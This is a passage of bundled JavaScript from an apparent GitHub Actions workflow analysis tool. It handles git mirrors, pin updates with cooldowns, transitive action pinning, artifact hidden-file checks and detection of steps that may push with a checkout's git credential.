    catch (error) {
        const { code, stdout, stderr } = error;
        if (typeof code !== "number")
            throw error;
        return { status: code, stdout: stdout ?? "", stderr: stderr ?? "" };
    }
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/upstream/mirror-origin.js







/**
 * Answers from a folder of bare repositories, `<owner>/<repo>.git`: refs, history and files. Nothing of the network is
 * asked.
 *
 * @throws UserError when the folder isn't there
 */
function mirrorOrigin(named, cwd) {
    const folder = resolve(cwd, named);
    if (!statSync(folder, { throwIfNoEntry: false })?.isDirectory()) {
        throw new UserError("--git-mirror", `${named} is no folder`, "name a folder with <owner>/<repo>.git in it");
    }
    return new MirrorOrigin(folder);
}
class MirrorOrigin {
    folder;
    constructor(folder) {
        this.folder = folder;
    }
    async refsOf(slug) {
        const answer = await this.ask(slug, "show-ref", "--dereference");
        if (!answer)
            return null;
        // `show-ref` ends with 1 where there are no refs at all.
        if (answer.status > 1)
            throw unreadable(slug, answer.stderr);
        const collector = new RefCollector();
        for (const line of answer.stdout.split("\n")) {
            const space = line.indexOf(" ");
            if (space > 0)
                collector.add(line.slice(space + 1), line.slice(0, space));
        }
        return collector.refs;
    }
    async reachabilityOf(slug, commit) {
        const places = ["refs/heads", "refs/tags"];
        const answer = await this.ask(slug, "for-each-ref", "--count=1", `--contains=${commit}`, "--format=x", ...places);
        if (!answer)
            return "unknown";
        // A commit that isn't there at all is an error to git.
        if (answer.status === 0 && answer.stdout !== "")
            return "reachable";
        // A shallow mirror has no history to look in.
        return existsSync(join(this.bareOf(slug), "shallow")) ? "unknown" : "unreachable";
    }
    async fileAt(slug, commit, path) {
        const object = `${commit}:${path}`;
        const size = await this.ask(slug, "cat-file", "-s", object);
        if (!size)
            return undefined;
        if (size.status !== 0)
            return null;
        requireSmall(slug, path, Number(size.stdout));
        const blob = await this.ask(slug, "cat-file", "blob", object);
        return blob?.status === 0 ? blob.stdout : null;
    }
    aboutOf = async () => undefined;
    advisoriesOn = async () => undefined;
    /** A mirror knows no releases: the commit's committer date stands for them. */
    async releaseTimeOf(slug, _tag, commit) {
        const answer = await this.ask(slug, "cat-file", "commit", commit);
        const seconds = /^committer .*> (\d{1,12}) [+-]\d{4}$/m.exec(answer?.stdout ?? "")?.[1];
        return seconds === undefined ? undefined : { time: Number(seconds) * 1000, isImmutable: false };
    }
    async ask(slug, ...args) {
        const bare = this.bareOf(slug);
        if (bare === undefined)
            return null;
        try {
            return await git(bare, ...args);
        }
        catch (error) {
            throw unreadable(slug, messageOf(error));
        }
    }
    /** GitHub's names have no case, folders may. */
    bareOf({ owner, repo }) {
        const exact = join(this.folder, owner, `${repo}.git`);
        if (existsSync(exact))
            return exact;
        const ownerFolder = sameName(this.folder, owner);
        const bare = ownerFolder && sameName(join(this.folder, ownerFolder), `${repo}.git`);
        return bare && join(this.folder, ownerFolder, bare);
    }
}
function sameName(folder, wanted) {
    const lower = wanted.toLowerCase();
    if (!statSync(folder).isDirectory())
        return undefined;
    return readdirSync(folder)
        .sort()
        .find((name) => name.toLowerCase() === lower);
}
function unreadable(slug, said) {
    const reason = `git can't read it: ${said.trim().split("\n")[0] ?? ""}`;
    return new UserError(`mirror of ${nameOfSlug(slug)}`, reason, "mirror it again");
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/upstream/updates.js


/** Of that many newer versions the age is asked for; below them an update would be no more than a step. */
const MOST_CANDIDATES = 20;
const DAY = 86_400_000;
/** Finds the newest version that a pin may become. */
class updates_Updater {
    origin;
    refs;
    policy;
    constructor(origin, refs, policy) {
        this.origin = origin;
        this.refs = refs;
        this.policy = policy;
    }
    /**
     * @param name what the pin's comment calls it, or nothing
     * @throws UserError when something that is needed fails
     */
    async find(target, name) {
        const refs = await this.refs.ask(target);
        if (!refs)
            return { kind: "newest" };
        const head = name === undefined ? undefined : refs.branches.get(name);
        if (name !== undefined && head !== undefined && !refs.tags.has(name))
            return this.toHead(target, name, head);
        const current = this.refs.versionAt(refs, target.ref, name) ?? (name === undefined ? undefined : parseVersionTag(name));
        if (!current)
            return { kind: "held", why: "nothing says which version it is" };
        return this.toVersion(target, refs, current);
    }
    async toHead(target, branch, head) {
        if (head === target.ref.toLowerCase())
            return { kind: "newest" };
        const young = await this.youth(target, null, head);
        return young === null ? { kind: "newer", commit: head, name: branch } : { kind: "held", why: `${branch} ${young}` };
    }
    async toVersion(target, refs, current) {
        const candidates = newerThan(current, [...refs.tags.keys()], this.policy.level).slice(0, MOST_CANDIDATES);
        const held = [];
        let ripe = null;
        for (const { tag } of candidates) {
            const young = await this.youth(target, tag, refs.tags.get(tag));
            if (young === null)
                ripe = tag;
            if (ripe !== null)
                break;
            held.push({ tag, young: young });
        }
        if (ripe === null || held.length > 0) {
            const needed = await this.neededNow(target, current, ripe, held.map(({ tag }) => tag));
            ripe = needed ?? ripe;
        }
        if (ripe !== null)
            return { kind: "newer", commit: refs.tags.get(ripe), name: ripe };
        const [first] = held;
        return first ? { kind: "held", why: `${first.tag} ${first.young}` } : { kind: "newest" };
    }
    /** The newest version that is too young but mends what nothing old enough does: waiting would be the greater risk. */
    async neededNow(target, current, ripe, young) {
        if (young.length === 0 || (ripe !== null && (await this.mends(target, current, ripe))))
            return null;
        for (const tag of young)
            if (await this.mends(target, current, tag))
                return tag;
        return null;
    }
    /** Why a version is too young, or null. */
    async youth(target, tag, commit) {
        if (this.policy.cooldown === 0)
            return null;
        const release = await this.origin.releaseTimeOf(slugOf(target), tag, commit);
        if (!release)
            return "has no date";
        const age = this.policy.now() - release.time;
        if (age >= this.policy.cooldown)
            return null;
        return `is ${days(Math.max(0, age))} old, and ${days(this.policy.cooldown)} are asked for`;
    }
    /** Does a version mend what an advisory says of the one in use? Then waiting is the greater risk. */
    async mends(target, current, tag) {
        const version = parseVersionTag(tag);
        const advisories = (await this.origin.advisoriesOn(slugOf(target), current.numbers.join("."))) ?? [];
        return advisories.some(({ fixedIn }) => {
            const fixed = fixedIn === null ? undefined : parseVersionTag(fixedIn);
            return fixed && version && compareVersions({ ...version, tag: "" }, { ...fixed, tag: "" }) >= 0;
        });
    }
}
function days(milliseconds) {
    const count = Math.floor(milliseconds / DAY);
    return `${count} ${count === 1 ? "day" : "days"}`;
}
/**
 * Versions of the same family that are newer and within the level, the newest first: full versions where there are any,
 * and pre-releases only for who has one.
 */
function newerThan(current, tags, level) {
    const family = versionTagsOf(tags).filter(({ prefix, prerelease }) => prefix === current.prefix && (prerelease === "" || current.prerelease !== ""));
    const precision = Math.max(0, ...family.map(({ numbers }) => numbers.length));
    return family
        .filter(({ numbers }) => numbers.length === precision)
        .filter((version) => isWithin(current, version, level) && isNewer(version, current))
        .sort((a, b) => compareVersions(b, a));
}
/** `v2` stands for all of 2, so that `v2.1.0` is no newer than it. */
function isNewer(version, current) {
    const numbers = version.numbers.slice(0, current.numbers.length);
    return compareVersions({ ...version, numbers, tag: "" }, { ...current, tag: "" }) > 0;
}
const KEPT = { major: 0, minor: 1, patch: 2 };
function isWithin(current, version, level) {
    return Array.from({ length: KEPT[level] }, (_, i) => i).every((i) => (current.numbers[i] ?? 0) === (version.numbers[i] ?? 0));
}

// EXTERNAL MODULE: ./packages/workflow-analysis/lib/yaml/index.js + 3 modules
var yaml = __nccwpck_require__(8176);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/upstream/pulled-in.js





const NOTHING = { pinned: [], mutable: [] };
/**
 * What the action or reusable workflow at a commit pulls in by itself.
 *
 * @throws UserError when a file can't be got
 * @see Metadata syntax for GitHub Actions, "runs for composite actions" and "runs for Docker container actions"
 */
async function pulled_in_readPulledIn(origin, target) {
    const isWorkflow = /^\.github\/workflows\/[^/]+\.ya?ml$/i.test(target.path);
    return isWorkflow ? readWorkflow(origin, target) : readAction(origin, target);
}
async function readWorkflow(origin, target) {
    const text = await origin.fileAt(slugOf(target), target.ref, target.path);
    const { root, document } = await parsed(target, target.path, text);
    if (!root)
        return NOTHING;
    return gathered(target, new Workflow(document, root).jobs.flatMap(namedByJob));
}
async function readAction(origin, target) {
    const folder = target.path === "" ? "" : `${target.path}/`;
    for (const name of ["action.yml", "action.yaml"]) {
        const text = await origin.fileAt(slugOf(target), target.ref, folder + name);
        if (text === null || text === undefined)
            continue;
        const { root, document } = await parsed(target, folder + name, text);
        return root ? readModel(origin, target, folder, actionOf(document, root)) : NOTHING;
    }
    return readDockerfile(origin, target, `${folder}Dockerfile`);
}
async function readModel(origin, target, folder, action) {
    if (action.kind === "composite")
        return gathered(target, action.steps.flatMap(namedByStep));
    if (action.kind !== "docker" || !action.image)
        return NOTHING;
    const image = action.image.value;
    if (image.startsWith("docker://"))
        return gathered(target, [parseImage(image.slice("docker://".length))]);
    return readDockerfile(origin, target, normalizePath(folder + image));
}
async function readDockerfile(origin, target, path) {
    const text = await origin.fileAt(slugOf(target), target.ref, path);
    if (text === null || text === undefined)
        return NOTHING;
    const { readDockerfile: read } = await Promise.all(/* import() */[__nccwpck_require__.e(839), __nccwpck_require__.e(658)]).then(__nccwpck_require__.bind(__nccwpck_require__, 5658));
    const result = read(new SourceFile(path, text));
    return result.ok
        ? gathered(target, result.dockerfile.images.map(({ image }) => image))
        : NOTHING;
}
async function parsed(slug, path, text) {
    const document = await parseYaml(new SourceFile(`${nameOfSlug(slug)}/${path}`, text ?? ""));
    return { document, root: document.root?.kind === "map" ? document.root : undefined };
}
function namedByJob(job) {
    if (job.kind === "reusable")
        return [job.uses.target];
    const images = job.containers.flatMap(({ image }) => (image ? [parseImage(image.value)] : []));
    return [...images, ...job.steps.flatMap(namedByStep)];
}
function namedByStep({ uses }) {
    return uses ? [uses.target] : [];
}
function gathered(from, named) {
    const pinned = [];
    const mutable = [];
    for (const thing of named) {
        const target = "kind" in thing ? thing : { kind: "docker", image: thing };
        if (target.kind === "docker") {
            if (isMutable(target.image))
                mutable.push(`docker://${target.image.text}`);
        }
        else if (target.kind === "repository") {
            if (isCommit(target.ref))
                pinned.push(target);
            else
                mutable.push(written(target));
        }
        else if (target.kind === "local") {
            const own = inSameRepository(from, target);
            if (own)
                pinned.push(own);
        }
    }
    return { pinned, mutable };
}
/** An expression may be anything; who calls gives it. */
function isMutable(image) {
    return image.name !== "" && !["digest", "unknown"].includes(pinningOf(image));
}
/**
 * `$/path`, and a reusable workflow's `./.github/workflows/…`, are of the same commit. Any other `./path` is looked for in
 * the workspace of who calls.
 */
function inSameRepository(from, target) {
    const isOwn = target.base === "repository" || target.path.startsWith(".github/workflows/");
    return isOwn ? { ...from, path: target.path } : null;
}
function written({ owner, repo, path, ref }) {
    return `${[owner, repo, path].filter((part) => part !== "").join("/")}@${ref}`;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/upstream/transitive.js





/** GitHub runs composite actions ten levels deep. */
const DEPTH = 10;
/** Who pulls in more wants to be slow. */
const MOST_FILES = 1000;
/** What pinned actions and reusable workflows pull in, down to the leaves. */
class transitive_Transitive {
    origin;
    files = new Answers();
    seen = new Set();
    constructor(origin) {
        this.origin = origin;
    }
    /** @throws UserError when a file can't be got, or there is no end of them */
    async load(targets) {
        let level = targets;
        for (let depth = 0; depth <= DEPTH && level.length > 0; depth++) {
            const fresh = new Map(level.filter(isPlainTarget).map((target) => [keyOf(target), target]));
            for (const key of fresh.keys())
                if (this.seen.has(key))
                    fresh.delete(key);
            for (const key of fresh.keys())
                this.seen.add(key);
            if (this.seen.size > MOST_FILES)
                throw tooMany(targets);
            const next = [];
            await inParallel(fresh, async ([key, target]) => {
                next.push(...(await this.files.ask(key, () => readPulledIn(this.origin, target))).pinned);
            });
            level = next;
        }
    }
    /** The actions below one, by the first way that leads to each, itself first. */
    reachedFrom(target) {
        const reached = [];
        const seen = new Set();
        const queue = [{ target, above: [] }];
        // There may be more ways than anybody could walk, so each action counts once.
        for (const { target: next, above } of queue) {
            const key = keyOf(next);
            const file = this.files.get(key);
            if (!file || seen.has(key) || above.length > DEPTH)
                continue;
            seen.add(key);
            const through = [...above, key];
            reached.push({ target: next, through, file });
            for (const below of file.pinned)
                queue.push({ target: below, above: through });
        }
        return reached;
    }
    /** A way from an action to each thing that isn't pinned. */
    chainsFrom(target) {
        return this.reachedFrom(target).flatMap(({ through, file }) => file.mutable.map((leaf) => ({ through, leaf })));
    }
}
function keyOf(target) {
    return `${nameOf(target)}@${target.ref.toLowerCase()}`;
}
function tooMany([first]) {
    const place = first ? nameOf(first) : "actions";
    return new UserError(place, `actions pull in more than ${MOST_FILES} others`, "look at what these actions are, or leave them out with `exclude`");
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/upstream/verification.js



/** What tells whether pins can be trusted; it is asked for ahead of a judgement. */
class verification_Verification {
    origin;
    refs;
    reachability = new Answers();
    abouts = new Answers();
    advisories = new Answers();
    transitive;
    constructor(origin, refs) {
        this.origin = origin;
        this.refs = refs;
        this.transitive = new Transitive(origin);
    }
    /** @param versions the references whose version is known, pinned or not */
    async load(pins, versions) {
        const repositories = new Map([...pins, ...versions].map(({ target }) => [keyOfSlug(target), target]));
        await inParallel(repositories, ([key, target]) => this.abouts.ask(key, () => this.origin.aboutOf(slugOf(target))));
        await inParallel(pins, (pin) => this.loadReachability(pin));
        await inParallel(versions, ({ target, version }) => this.advisories.ask(keyOfVersion(target, version), () => this.origin.advisoriesOn(slugOf(target), version.numbers.join("."))));
        await this.transitive.load(pins.map(({ target }) => target).filter((target) => this.isKnown(target)));
    }
    async loadReachability({ target, name }) {
        const refs = this.refs.of(target);
        if (!refs)
            return;
        const commit = target.ref.toLowerCase();
        await this.reachability.ask(keyOfCommit(target), async () => {
            const tips = [...refs.tags.values(), ...refs.branches.values(), ...refs.tagObjects.keys()];
            if (tips.includes(commit))
                return "reachable";
            return this.origin.reachabilityOf(slugOf(target), commit, refs, name === undefined ? [] : [name]);
        });
    }
    /** What isn't there has no files either. */
    isKnown(target) {
        return isPlainTarget(target) && this.refs.of(target) !== null;
    }
    reachabilityOf(target) {
        return this.reachability.get(keyOfCommit(target));
    }
    aboutOf(target) {
        return this.abouts.get(keyOfSlug(target));
    }
    advisoriesOn(target, version) {
        return this.advisories.get(keyOfVersion(target, version)) ?? [];
    }
    /** The actions that a pinned one pulls in, each with the way to it. */
    reachedFrom(target) {
        return this.transitive.reachedFrom(target).slice(1);
    }
    chainsFrom(target) {
        return this.transitive.chainsFrom(target);
    }
}
function keyOfVersion(target, { numbers }) {
    return `${keyOfSlug(target)}@${numbers.join(".")}`;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/upstream/upstream.js








/**
 * What is known of the repositories that workflows use. It is asked for ahead of a judgement, each thing once a run; rules
 * then only look it up.
 */
class Upstream {
    options;
    refs;
    verification;
    updater;
    updates = new Answers();
    releases = new Answers();
    /**
     * `owner/repo@version` → the commit that pins of the repository under judgement give for it; null where they don't agree.
     */
    pins = new Map();
    lock = null;
    digests = new Answers();
    /** Images that somebody wanted to know of before they were asked for. */
    wanted = new Map();
    constructor(options) {
        this.options = options;
        const { origin, verify, update } = options;
        this.refs = new KnownRefs(origin);
        this.verification = origin && verify ? new Verification(origin, this.refs) : null;
        this.updater = origin && update ? new Updater(origin, this.refs, update) : null;
    }
    /**
     * Asks for what a repository's references name.
     *
     * @throws UserError when something that is needed can't be found out
     */
    async load(repository) {
        const { isAsked = () => true, pins, origin } = this.options;
        const references = repository.uses().filter(isAsked).flatMap(referenceOf);
        this.lock = repository.lock;
        // What one repository pins says nothing of another.
        this.pins.clear();
        const pinned = references.filter(({ target }) => isCommit(target.ref));
        for (const { target, name } of pinned)
            if (name !== undefined)
                this.learnPin(target, name);
        if (!origin)
            return;
        const locked = this.verification ? lockedPins(repository.lock) : [];
        const wanted = pins ? references : references.filter((one) => !pinned.includes(one));
        await this.refs.load([...wanted, ...locked].map(targetOf));
        await this.loadReleases(origin, references);
        await this.loadUpdates(pinned);
        await this.verification?.load([...pinned, ...locked], references.flatMap(({ target, name }) => this.withVersion(target, name)));
    }
    async loadUpdates(pinned) {
        const { updater } = this;
        if (!updater)
            return;
        await inParallel(pinned, ({ target, name }) => this.updates.ask(keyOfPin(target, name), () => updater.find(target, name)));
    }
    async loadReleases(origin, references) {
        if (!this.options.releases)
            return;
        await inParallel(references, async ({ target }) => {
            const commit = this.refs.of(target)?.tags.get(target.ref);
            if (commit === undefined)
                return;
            await this.releases.ask(keyOfRef(target), () => origin.releaseTimeOf(slugOf(target), target.ref, commit));
        });
    }
    withVersion(target, name) {
        const version = this.versionOf(target, name);
        return version ? [{ target, version }] : [];
    }
    learnPin(target, name) {
        const key = `${keyOfSlug(target)}@${name}`;
        const commit = target.ref.toLowerCase();
        const known = this.pins.get(key);
        this.pins.set(key, known === undefined || known === commit ? commit : null);
    }
    /** What a tag or branch is today. */
    resolve(target) {
        if (!isPlainTarget(target))
            return { kind: "no-repository" };
        if (!isPossibleRef(target.ref))
            return { kind: "no-ref" };
        const refs = this.refs.of(target);
        if (refs === null)
            return { kind: "no-repository" };
        return refs ? this.resolveIn(refs, target.ref) : (lockedPin(this.lock, target) ?? this.resolveByPin(target));
    }
    resolveIn(refs, ref) {
        const tag = refs.tags.get(ref);
        const branch = refs.branches.get(ref);
        if (tag !== undefined && branch !== undefined)
            return { kind: "ambiguous" };
        if (branch !== undefined)
            return { kind: "commit", commit: branch, name: ref, isBranch: true, source: "refs" };
        if (tag === undefined)
            return { kind: "no-ref" };
        const name = mostPreciseTag(this.refs.tagsAt(refs, tag), ref);
        return { kind: "commit", commit: tag, name, isBranch: false, source: "refs" };
    }
    resolveByPin(target) {
        const commit = this.pins.get(`${keyOfSlug(target)}@${target.ref}`);
        if (commit === undefined || commit === null)
            return { kind: "unknown" };
        return { kind: "commit", commit, name: target.ref, isBranch: false, source: "pins" };
    }
    /** The newest release of a repository, whatever its family; undefined when there is none, or nobody knows. */
    newestRelease(target) {
        const refs = this.refs.of(target);
        const releases = versionTagsOf([...(refs?.tags.keys() ?? [])]).filter(({ prerelease }) => prerelease === "");
        const [best] = [
            ...releases.filter(({ prefix }) => isFamilyOf(prefix, target.path)),
            ...releases.filter(({ prefix }) => prefix === ""),
            ...releases,
        ];
        return best && { commit: refs?.tags.get(best.tag), name: best.tag };
    }
    /**
     * The tag of a version, however it is written there; a full version before a pre-release of it.
     *
     * @param version `1.0.1`
     */
    tagOfVersion(target, version) {
        const refs = this.refs.of(target);
        const wanted = parseVersionTag(version);
        const found = versionTagsOf([...(refs?.tags.keys() ?? [])]).find(({ numbers, prerelease }) => prerelease === wanted?.prerelease && numbers.join(".") === wanted.numbers.join("."));
        return found && { commit: refs?.tags.get(found.tag), name: found.tag };
    }
    /** All refs of a repository; null when there is none, undefined when nobody knows. */
    refsOf(target) {
        return isPlainTarget(target) ? this.refs.of(target) : null;
    }
    /** The tags that lead to a pinned commit; undefined when nobody knows. */
    tagsOn(target) {
        const refs = this.refs.of(target);
        return refs ? this.refs.tagsAt(refs, target.ref) : undefined;
    }
    /** What the comment behind a reference calls it: a version, or a branch or tag that there is. */
    nameOn(uses, target) {
        const word = commentWord(uses.scalar)?.version;
        const refs = this.refs.of(target);
        const isRef = word !== undefined && (refs?.tags.has(word) || refs?.branches.has(word));
        return isRef ? word : versionComment(uses.scalar)?.version;
    }
    /** What a reference's version is, by the tags on its commit, else by what it is called. */
    versionOf(target, name) {
        const refs = this.refs.of(target);
        const called = isCommit(target.ref) ? name : target.ref;
        const commit = isCommit(target.ref) ? target.ref : refs?.tags.get(target.ref);
        const known = refs && commit !== undefined ? this.refs.versionAt(refs, commit, called) : undefined;
        return known ?? (called === undefined ? undefined : parseVersionTag(called));
    }
    reachabilityOf(target) {
        return this.verification?.reachabilityOf(target);
    }
    aboutOf(target) {
        return this.verification?.aboutOf(target);
    }
    advisoriesOn(target, version) {
        return this.verification?.advisoriesOn(target, version) ?? [];
    }
    /** The actions that a pinned one pulls in, each with the way to it. */
    reachedFrom(target) {
        return this.verification?.reachedFrom(target) ?? [];
    }
    /** The ways by which a pinned action comes to something that isn't pinned. */
    chainsFrom(target) {
        return this.verification?.chainsFrom(target) ?? [];
    }
    updateOf(uses, target) {
        return this.updates.get(keyOfPin(target, commentWord(uses.scalar)?.version));
    }
    /**
     * The digest of an image's tag; null when there is no such image. What isn't known yet is asked for by the next
     * `answer`.
     */
    digestOf(image) {
        const known = this.digests.get(image.text);
        if (known === undefined && this.options.digestOf)
            this.wanted.set(image.text, image);
        return known;
    }
    /**
     * Asks for what was wanted and not known.
     *
     * @returns whether more is known now
     * @throws UserError when it can't be found out
     */
    async answer() {
        const { digestOf } = this.options;
        const wanted = [...this.wanted.values()];
        this.wanted.clear();
        if (!digestOf || wanted.length === 0)
            return false;
        await inParallel(wanted, (image) => this.digests.ask(image.text, () => digestOf(image)));
        return true;
    }
    /** Is a tag that of a release which can't be changed any more? */
    isImmutable(target) {
        return this.releases.get(keyOfRef(target))?.isImmutable === true;
    }
}
function referenceOf(uses) {
    const { target } = uses;
    if (target.kind !== "repository" || !isPlainTarget(target) || !isPossibleRef(target.ref))
        return [];
    return [{ target, name: commentWord(uses.scalar)?.version }];
}
/** `toolkit/v1.0.0`, `toolkit-v1` and `toolkit@1` are versions of what stands at `actions/toolkit`. */
function isFamilyOf(prefix, path) {
    const name = path.slice(path.lastIndexOf("/") + 1).toLowerCase();
    return name !== "" && (prefix.replace(/[/@_-]+$/, "") === name || prefix.replace(/\/$/, "") === path.toLowerCase());
}
/** The commits of the lock's entries, by the refs that they were locked for. */
function lockedPins(lock) {
    return [...(lock?.dependencies.values() ?? [])].flatMap(({ name: { target }, commit }) => target && commit !== null && isPlainTarget(target)
        ? [{ target: { ...target, ref: commit }, name: target.ref }]
        : []);
}
function targetOf({ target }) {
    return target;
}
function keyOfPin(target, name) {
    return `${keyOfCommit(target)} ${name ?? ""}`;
}
function keyOfRef(target) {
    return `${keyOfSlug(target)}@${target.ref}`;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/upstream/version-comment.js
/**
 * The forms in which tools write versions: `# v4`, `#v4.1`, `# tag=v4`, `# pin@v4`, `# ratchet:owner/repo@v4`,
 * `# renovate: tag=v4`, `# @v4`; but in `# @scope/name@1.2.0` the `@` is the tag's. Text behind the version, and the
 * punctuation before it, is the author's own. (No ref holds a colon.)
 */
const COMMENT = /^#[ \t]*(?:(?:renovate:[ \t]*)?tag=|pin@|ratchet:[^\s@]+@|@(?![^\s:]*@))?([^\s:]+?)(?=[,;.]*(?:[\s:]|$))/;
/** Looks like a version. */
const VERSION_WORD = /^(?:@?[\w./-]*[@/_-])?v?\d+(?:\.\d+)*(?:[-+][\w.-]+)?$/i;
/** `# 3 retries`, `# 2024-01-02`: numbers of another kind. */
const NO_VERSION = /^\d+$|^\d{4}-\d{1,2}-\d{1,2}/;
/** Longer words are nobody's version, and made to be slow. */
const MAX_VERSION = 256;
/** Null where no comment can stand behind the scalar: in flow style, and in scalars of several lines. */
function restOfLine(scalar) {
    const { text } = scalar.file;
    if (scalar.isBlock || text.slice(scalar.start, scalar.end).includes("\n"))
        return null;
    const match = /^([ \t]*)(#[^\r\n]*)?(?=[\r\n]|$)/.exec(text.slice(scalar.end, version_comment_endOfLine(text, scalar.end)));
    if (!match)
        return null;
    const [, space = "", comment] = match;
    // Without white space before it a `#` is no comment.
    if (comment !== undefined && space === "")
        return null;
    const start = scalar.end + space.length;
    return { start: scalar.end, comment: comment === undefined ? null : { start, end: start + comment.length } };
}
function version_comment_endOfLine(text, from) {
    let at = from;
    while (at < text.length && text[at] !== "\n" && text[at] !== "\r")
        at++;
    return at;
}
/** The word of a comment that says, in one of those forms, what is pinned; it may be any word that an author wrote. */
function version_comment_commentWord(scalar) {
    const comment = restOfLine(scalar)?.comment;
    if (!comment)
        return null;
    const match = COMMENT.exec(scalar.file.text.slice(comment.start, comment.end));
    const version = match?.[1];
    if (!match || version === undefined || version.length > MAX_VERSION)
        return null;
    const start = comment.start + match[0].length - version.length;
    return { version, span: { start, end: start + version.length } };
}
/** The version that the comment behind a `uses:` names. */
function version_comment_versionComment(scalar) {
    const word = version_comment_commentWord(scalar);
    return word && VERSION_WORD.test(word.version) && !NO_VERSION.test(word.version) ? word : null;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/upstream/used-version.js



/**
 * The version that a `uses:` asks for, major first and as precise as it is written: its tag's, or the one in the comment
 * behind a commit. Null where neither tells.
 */
function usedVersion({ target, scalar }) {
    if (target.kind !== "repository")
        return null;
    const tag = (0,model/* isCommit */.WM)(target.ref) ? version_comment_versionComment(scalar)?.version : target.ref;
    const version = tag === undefined ? undefined : versions_parseVersionTag(tag);
    return version?.prefix === "" ? version.numbers : null;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/upstream/index.js








;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/artifact-uploads.js


/** Null for other steps, and where hidden files surely stay out. */
function artifactUploadOf(step) {
    if (!step.uses?.is("actions/upload-artifact"))
        return null;
    const path = step.input("path")?.value;
    const takesHidden = takesHiddenFiles(step);
    if (path?.kind !== "scalar" || takesHidden === false)
        return null;
    const lines = path.value.split("\n").map((line) => line.trim());
    if (lines.some((line) => /^!.*\.git\b/.test(line)))
        return null;
    const patterns = lines.filter((line) => line !== "" && !line.startsWith("!"));
    return { folders: patterns.map(uploadedFolder), isSure: takesHidden === true };
}
/**
 * Undefined where that isn't known.
 *
 * @see Releases of actions/upload-artifact 3.2.0 and 4.4.0: hidden files stay out unless `include-hidden-files` asks for them
 */
function takesHiddenFiles(step) {
    const version = step.uses && usedVersion(step.uses);
    if (version && cannotLeaveOut(version))
        return true;
    const asked = step.input("include-hidden-files")?.value;
    if (asked?.kind === "scalar" && !asked.isNull) {
        return (0,model/* expressionsIn */.l$)(asked).length > 0 ? undefined : asked.value.trim().toLowerCase() === "true";
    }
    // `v3` is frozen on GitHub Enterprise Server, at whatever it was.
    return version && !(version[0] === 3 && version.length === 1) ? false : undefined;
}
/** A major version alone means its newest release. */
function cannotLeaveOut([major = 0, minor = Number.POSITIVE_INFINITY]) {
    return major < 3 || (major === 3 && minor < 2) || (major === 4 && minor < 4);
}
/** `./site/**` → `site`, `*` and `.git` → `.`: the folder whose whole content, or whose `.git`, a pattern takes. */
function uploadedFolder(pattern) {
    const inWorkspace = pattern.replace(/^\$\{\{\s*github\.workspace\s*\}\}/i, ".");
    const parts = (0,model/* normalizePath */.Fd)(inWorkspace)
        .split("/")
        .filter((part) => part !== "");
    dropWildcards(parts);
    if (parts.at(-1) === "config" && parts.at(-2) === ".git")
        parts.pop();
    if (parts.at(-1) === ".git")
        parts.pop();
    dropWildcards(parts);
    // What lies above the workspace holds it.
    return parts.every((part) => part === "..") ? "." : parts.join("/");
}
function dropWildcards(parts) {
    while (/^\*+$/.test(parts.at(-1) ?? ""))
        parts.pop();
}

// EXTERNAL MODULE: ./packages/workflow-analysis/lib/shell/index.js + 29 modules
var lib_shell = __nccwpck_require__(7436);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/git-credential.js

/**
 * May a step need the credential that a checkout left for git? What a local action does counts as the step's. In doubt it
 * may: a release that no longer gets its tags pushed is worse than a fix that somebody looks at first.
 */
function mayNeedGitCredential(step, repository) {
    const { uses, run } = step;
    if (run)
        return run.scalar.mayMatch(HINT) && scriptMayPush(run);
    if (!uses)
        return false;
    if (inputsAskForPush(step))
        return true;
    if (uses.target.kind === "local")
        return localActionMayPush(uses, repository);
    const name = uses.text.split("@")[0]?.toLowerCase() ?? "";
    return uses.target.kind === "repository" && PUSHING_ACTION.test(name) && !OWN_TOKEN.test(name);
}
/** An input that is a script with `git push` in it, or that switches pushing on (`git-push: true`). */
function inputsAskForPush(step) {
    return (step.map.map("with")?.entries ?? []).some(({ key, value }) => {
        if (value.kind !== "scalar")
            return false;
        const isSwitch = /push/i.test(key.value) && !/^(?:false|no|off|0|)$/i.test(value.value.trim());
        // `docker/build-push-action` pushes images, not commits.
        return (isSwitch && key.value.toLowerCase() !== "push") || asksInText(value.value);
    });
}
/** An action that isn't in the repository, such as one in a folder that another checkout fills, may do anything. */
function localActionMayPush(uses, repository) {
    const action = repository.resolve(uses);
    if (!action)
        return true;
    return [...repository.reachableFrom(action)].some((unit) => unit.kind === "composite" &&
        unit.steps.some((step) => step.uses?.target.kind !== "local" && mayNeedGitCredential(step, repository)));
}
/** What actions that may push with the credential that the checkout left are called for. */
const PUSHING_ACTION = /backport|branch|bump|changeset|commit|deploy|gh-pages|merge|publish|pull-request|push|release|sync|tag|version/;
/** Their names say so, but they don't push, or they ask for a token of their own. */
const OWN_TOKEN = /^(?:actions\/|docker\/|goreleaser\/|pypa\/|softprops\/)/;
/** What tasks and scripts that push are called for. */
const PUSHING_WORD = /backport|bump|commit|deploy|gh-pages|publish|push|release|shipit|sync|version/i;
/** Commands that run `git push` themselves, wherever they are named: programs start them, too. */
const PUSHING_TOOL = /\b(?:semantic-release|release-it|release-plz|gh-pages|ghp-import|gh-deploy|mike\s+deploy|cargo\s+release|changeset\s+(?:publish|tag|version)|lerna\s+(?:publish|version))\b/;
const ASKS_REMOTE = /\b(?:push|fetch|pull|ls-remote|submodule|clone|remote|lfs)\b/;
const ASKS_REMOTE_ITSELF = /\bgit-lfs\b|\bgh\s+(?:pr\s+checkout|repo\s+sync)\b/;
/** Most scripts hold none of these and needn't be read. */
const HINT = new RegExp(`\\bg(?:it|h)\\b|\\bhub\\b|ghp-import|mike|changeset|lerna|${PUSHING_WORD.source}`, "i");
function scriptMayPush({ script }) {
    // What isn't there with the comments isn't there without them, and to find them takes a walk through the script.
    if (!asksInText(script.text) && !mayRunTask(script.text))
        return false;
    if (asksInText(withoutCommentedLines(script.text)))
        return true;
    const text = withoutComments(script);
